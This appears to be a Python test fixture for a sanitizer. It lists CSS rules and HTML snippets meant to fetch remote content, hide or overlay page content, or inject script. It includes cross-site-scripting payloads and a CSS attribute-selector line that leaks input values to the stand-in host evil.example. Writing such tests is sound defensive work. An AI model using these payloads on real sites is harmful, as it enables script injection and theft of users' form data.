"""CSS: what it fetches, covers or shows, in attributes and in elements of its own."""

from __future__ import annotations

RULES = (
    "background:url(//evil.example/s.png)", "background:url('https://evil.example/s.png')",
    "background:u\\72l(//evil.example/s.png)", "background:image-set('//evil.example/s.png' 1x)",
    "background:-webkit-image-set(url(//evil.example/s.png) 1x)", "background:cross-fade(url(//evil.example/s),red)",
    "list-style:url(//evil.example/s.png);display:list-item", "cursor:url(//evil.example/c.cur),auto",
    "content:url(//evil.example/s.png)", "border-image:url(//evil.example/s.png) 9", "mask:url(//evil.example/m.svg)",
    "filter:url(//evil.example/f.svg#x)", "clip-path:url(//evil.example/c.svg#x)", "shape-outside:url(//evil.example)",
    "behavior:url(//evil.example/x.htc)", "-moz-binding:url(//evil.example/x.xml#x)", "width:expression(alert(1))",
    "xss:expr/*x*/ession(alert(1))", "background:url(javascript:alert(1))", "background:\\75\\72\\6c(//evil.example)",
    "--x:url(//evil.example/s.png);background:var(--x)", "animation:x 1s;font:1em x", "position:fixed;inset:0",
    "position:absolute;top:-999px;z-index:99999", "display:none", "color:transparent;font-size:0", "direction:rtl",
    "unicode-bidi:bidi-override;direction:rtl", "opacity:0", "transform:scale(99)", "all:unset", "}*{display:none}",
    "\">x</p><img src=x onerror=alert(1)>", "'onmouseover='alert(1)", "/*\"*/onclick=alert(1)/*", "</style><script>",
)  # fmt: skip
STYLES = (
    *(f'<p style="{rule}">x</p>' for rule in RULES),
    *(f"<style>*{{{rule}}}</style>" for rule in RULES),
    "<style>@import '//evil.example/s.css';</style>",
    "<style>@import\\20url(//evil.example/s.css);</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f.woff)}*{font-family:x}</style>",
    "<style>@namespace x url(//evil.example);@charset 'x';</style>",
    "<style>input[value^=a]{background:url(//evil.example/?a)}</style>",
    "<style>@media all{*{background:url(//evil.example)}}@supports(x:y){}</style>",
    "<style>@keyframes x{from{background:url(//evil.example)}}*{animation:x 1s}</style>",
    "<style/onload=alert(1)></style><style onerror=alert(1)>x</style>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<style type=text/javascript>alert(1)</style><style media=all scoped>*{display:none}</style>",
    "<link rel=stylesheet href=data:text/css,*{display:none}>",
    "<font color=red size=99 face='x;background:url(//evil.example)'>x</font><center><blink>x</blink></center>",
    "<p bgcolor=red align=right width=9999 height=9999 hspace=99 border=9>x</p><basefont size=99>",
    "<img src=x width=99999 height=99999 style=position:fixed class=site-header>",
    "<span class='hl hl-k visually-hidden spoiler scroll site-header'>x</span>",
)
